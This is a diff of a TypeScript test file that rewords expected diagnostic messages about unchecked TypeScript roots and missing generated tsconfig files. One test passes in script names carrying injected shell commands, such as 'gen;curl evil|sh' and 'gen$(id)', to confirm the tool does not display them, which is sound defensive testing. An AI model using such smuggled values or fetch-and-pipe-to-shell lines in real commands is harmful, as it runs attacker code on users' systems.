@@ -76,7 +76,7 @@ test("a change elsewhere is judged, and the root that was not needed is named", 
       "rates same program",
       "site same program",
       "new other/two.ts:3 2554",
-      "TypeScript in site was not checked, and the change cannot affect it: site/tsconfig.json:1 names site/.svelte-kit/tsconfig.json, which could not be read: there is no such file. \`npx --no-install svelte-kit sync\` in site writes it: run that before the gate, and name site/.svelte-kit in \`dependencies\`",
+      "TypeScript in site not checked, because the change cannot affect it: site/tsconfig.json:1 names site/.svelte-kit/tsconfig.json, which could not be read: there is no such file. \`npx --no-install svelte-kit sync\` in site writes it: run that before the gate, and name site/.svelte-kit in \`dependencies\`",
     ]
   `);
 });
@@ -229,7 +229,7 @@ test("in a repository of one root a change of prose and of another language need
     [
       "pass: 1 root skipped in the second pass: nothing they use differs",
       ". same program",
-      "TypeScript was not checked, and the change cannot affect it: tsconfig.json:1 names generated/tsconfig.json, which could not be read: there is no such file. \`npm run codegen\` in the top folder writes it: run that before the gate, and name generated in \`dependencies\`",
+      "TypeScript not checked, because the change cannot affect it: tsconfig.json:1 names generated/tsconfig.json, which could not be read: there is no such file. \`npm run codegen\` in the top folder writes it: run that before the gate, and name generated in \`dependencies\`",
     ]
   `);
 });
@@ -251,7 +251,7 @@ test("a script whose name says more to a shell than a name is not shown", () => 
     return adviceOn(join(root, "generated/tsconfig.json"), root);
   };
   for (const name of ["gen;curl evil|sh", "gen$(id)", "gen `id`", "--script-shell=x"])
-    expect(adviceOf(name)).toMatch(/^\. If a command writes it, run that/u);
+    expect(adviceOf(name)).toMatch(/^\. If a command writes it, run the command/u);
   expect(adviceOf("gen;id", "gen:types-1.x")).toMatch(/^\. `npm run gen:types-1\.x` in/u);
 });
 
@@ -272,7 +272,7 @@ test("of configurations that extend an edited one their number is said, and the 
   expect(report.policyChanges.map(({ files, message }) => [files, message])).toEqual([
     [
       ["tsconfig.base.json"],
-      "head changes the server's own configuration; head was judged under base's; 2 other files inherit it",
+      "head changes the server's own configuration; head ran with base's; 2 other files inherit it",
     ],
   ]);
 });
